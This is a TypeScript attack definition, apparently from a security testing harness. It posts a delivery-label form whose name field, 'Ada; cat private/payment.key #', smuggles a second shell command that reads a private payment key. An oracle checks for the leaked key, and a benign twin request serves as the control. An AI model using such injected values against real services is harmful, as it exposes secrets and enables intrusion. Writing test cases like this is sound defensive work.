import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Prints the key file by a second shell command in a delivery label. */
export const commandLabelSemicolon: Attack = defineAttack({
  id: 'command-label-semicolon',
  class: 'command-injection',
  title: 'Prints the key file by a second shell command in a delivery label',
  cwe: 78,
  capec: 88,
  technique: 'T1059.004',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.form('/delivery/label', { name: 'Ada; cat private/payment.key #', street: 'Kungsgatan 4' }),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) =>
    visitor.form('/delivery/label', { name: 'Ada Lovelace', street: 'Kungsgatan 4, c/o Cat' }),
})
